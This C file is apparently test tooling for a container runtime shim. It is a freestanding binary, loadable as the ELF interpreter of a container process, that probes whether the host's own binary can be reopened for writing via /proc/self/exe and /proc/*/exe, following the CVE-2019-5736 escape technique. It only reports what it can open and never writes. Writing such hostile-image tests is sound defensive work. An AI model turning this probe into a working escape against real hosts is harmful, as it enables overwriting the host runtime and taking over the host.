/*
 * The attacker's tool for tests/e2e_hostile.rs: what a malicious image would ship.
 *
 * Freestanding (no libc, raw syscalls), so that it also works as the ELF interpreter of
 * another program: bound at /lib64/ld-linux-x86-64.so.2 in a container, it is what runs
 * when the container executes a dynamically linked host binary, such as the shim's own
 * binary reached through /proc/self/exe (the CVE-2019-5736 technique). It never writes
 * to anything it reaches: it reports what it could open, and how.
 *
 *   attack                     as an interpreter: report on /proc/self/exe
 *   attack exe PATH            report on PATH (e.g. /proc/<pid>/exe)
 *   attack scan-exe            report on /proc/<pid>/exe of every other visible process
 *
 * One line per target:
 *   exe path=P dev=D ino=I rdonly=0|1 write=ok|errno:N [direct=ok|errno:N]
 *   exe path=P open=errno:N
 */

typedef unsigned long u64;

#if defined(__x86_64__)
enum { SYS_read = 0, SYS_write = 1, SYS_close = 3, SYS_fstat = 5, SYS_fstatfs = 138,
       SYS_getdents64 = 217, SYS_exit_group = 231, SYS_openat = 257, SYS_getpid = 39 };
enum { STAT_DEV = 0, STAT_INO = 8 };
static long sc(long n, long a, long b, long c, long d)
{
	long ret;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return ret;
}
__asm__(".text\n.global _start\n_start:\n"
	"  xor %rbp, %rbp\n  mov %rsp, %rdi\n  and $-16, %rsp\n  call start_c\n  hlt\n");
#elif defined(__aarch64__)
enum { SYS_read = 63, SYS_write = 64, SYS_close = 57, SYS_fstat = 80, SYS_fstatfs = 44,
       SYS_getdents64 = 61, SYS_exit_group = 94, SYS_openat = 56, SYS_getpid = 172 };
enum { STAT_DEV = 0, STAT_INO = 8 };
static long sc(long n, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
__asm__(".text\n.global _start\n_start:\n  mov x0, sp\n  bl start_c\n");
#else
#error "attack.c: x86_64 and aarch64 only"
#endif

#define AT_FDCWD (-100)
#define O_RDONLY 0
#define O_WRONLY 1
#define O_DIRECTORY 0200000
#define O_CLOEXEC 02000000
#define O_PATH 010000000
#define ST_RDONLY 1
#define AT_ENTRY 9
#define STATFS_FLAGS 80

void *memset(void *d, int c, unsigned long n)
{
	unsigned char *p = d;
	while (n--)
		*p++ = (unsigned char)c;
	return d;
}

void *memcpy(void *d, const void *s, unsigned long n)
{
	unsigned char *p = d;
	const unsigned char *q = s;
	while (n--)
		*p++ = *q++;
	return d;
}

static unsigned long slen(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static int seq(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

/* An output line, built in a buffer and written at once. */
static char line[512];
static unsigned long used;

static void put(const char *s)
{
	unsigned long n = slen(s);
	if (used + n < sizeof(line)) {
		memcpy(line + used, s, n);
		used += n;
	}
}

static void put_u(u64 v)
{
	char b[24];
	int i = sizeof(b) - 1;
	b[i] = 0;
	do {
		b[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	put(b + i);
}

static void flush(void)
{
	put("\n");
	sc(SYS_write, 1, (long)line, (long)used, 0);
	used = 0;
}

/* "ok" or "errno:N" for the result of an open, closing what was opened. */
static void put_open_result(long fd)
{
	if (fd >= 0) {
		sc(SYS_close, fd, 0, 0, 0);
		put("ok");
	} else {
		put("errno:");
		put_u((u64)-fd);
	}
}

static void report(const char *path, int direct)
{
	unsigned char st[256], sfs[256];
	char reopen[64];
	long fd, w;

	put("exe path=");
	put(path);
	fd = sc(SYS_openat, AT_FDCWD, (long)path, O_PATH | O_CLOEXEC, 0);
	if (fd < 0) {
		put(" open=errno:");
		put_u((u64)-fd);
		flush();
		return;
	}
	memset(st, 0, sizeof(st));
	memset(sfs, 0, sizeof(sfs));
	sc(SYS_fstat, fd, (long)st, 0, 0);
	sc(SYS_fstatfs, fd, (long)sfs, 0, 0);
	put(" dev=");
	put_u(*(u64 *)(st + STAT_DEV));
	put(" ino=");
	put_u(*(u64 *)(st + STAT_INO));
	put(" rdonly=");
	put_u((*(u64 *)(sfs + STATFS_FLAGS) & ST_RDONLY) ? 1 : 0);
	/* The CVE-2019-5736 step: reopen the handle for writing (never written to). */
	{
		unsigned long n = 0;
		const char *pre = "/proc/self/fd/";
		char num[24];
		int i = sizeof(num) - 1;
		u64 v = (u64)fd;
		memcpy(reopen, pre, slen(pre));
		n = slen(pre);
		num[i] = 0;
		do {
			num[--i] = (char)('0' + v % 10);
			v /= 10;
		} while (v);
		memcpy(reopen + n, num + i, slen(num + i) + 1);
	}
	w = sc(SYS_openat, AT_FDCWD, (long)reopen, O_WRONLY | O_CLOEXEC, 0);
	put(" write=");
	put_open_result(w);
	if (direct) {
		w = sc(SYS_openat, AT_FDCWD, (long)path, O_WRONLY | O_CLOEXEC, 0);
		put(" direct=");
		put_open_result(w);
	}
	sc(SYS_close, fd, 0, 0, 0);
	flush();
}

static void scan(void)
{
	char buf[4096], path[64];
	long me = sc(SYS_getpid, 0, 0, 0, 0);
	long dir = sc(SYS_openat, AT_FDCWD, (long)"/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);
	long n;

	if (dir < 0)
		return;
	while ((n = sc(SYS_getdents64, dir, (long)buf, sizeof(buf), 0)) > 0) {
		long off = 0;
		while (off < n) {
			unsigned short reclen = *(unsigned short *)(buf + off + 16);
			const char *name = buf + off + 19;
			u64 pid = 0;
			const char *c = name;
			off += reclen;
			if (*c < '0' || *c > '9')
				continue;
			while (*c >= '0' && *c <= '9')
				pid = pid * 10 + (u64)(*c++ - '0');
			if (*c || (long)pid == me)
				continue;
			memcpy(path, "/proc/", 6);
			memcpy(path + 6, name, slen(name));
			memcpy(path + 6 + slen(name), "/exe", 5);
			report(path, 0);
		}
	}
	sc(SYS_close, dir, 0, 0, 0);
}

extern char _start[];

__attribute__((used)) void start_c(long *sp)
{
	long argc = sp[0];
	char **argv = (char **)(sp + 1);
	char **envp = argv + argc + 1;
	u64 *auxv;
	u64 entry = 0;

	while (*envp)
		envp++;
	for (auxv = (u64 *)(envp + 1); auxv[0]; auxv += 2)
		if (auxv[0] == AT_ENTRY)
			entry = auxv[1];
	if (entry && entry != (u64)_start) {
		/* Loaded as the interpreter of another program: /proc/self/exe is that program. */
		report("/proc/self/exe", 1);
	} else if (argc >= 3 && seq(argv[1], "exe")) {
		report(argv[2], 0);
	} else if (argc >= 2 && seq(argv[1], "scan-exe")) {
		scan();
	} else {
		put("usage: attack [exe PATH | scan-exe]");
		flush();
		sc(SYS_exit_group, 2, 0, 0, 0);
	}
	sc(SYS_exit_group, 0, 0, 0, 0);
	for (;;)
		;
}
